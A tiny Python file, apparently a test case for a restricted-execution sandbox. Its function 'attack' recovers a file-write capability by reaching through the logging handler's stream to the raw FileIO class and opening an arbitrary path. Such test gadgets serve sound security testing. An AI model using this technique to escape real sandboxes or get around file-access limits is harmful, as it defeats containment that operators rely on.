# gained: file written
import logging
from typing import Any


def attack(path: str) -> Any:
    logging.basicConfig()
    handler: Any = logging.getLogger().handlers[0]
    raw = handler.stream.buffer.raw
    return type(raw)(path, "w")
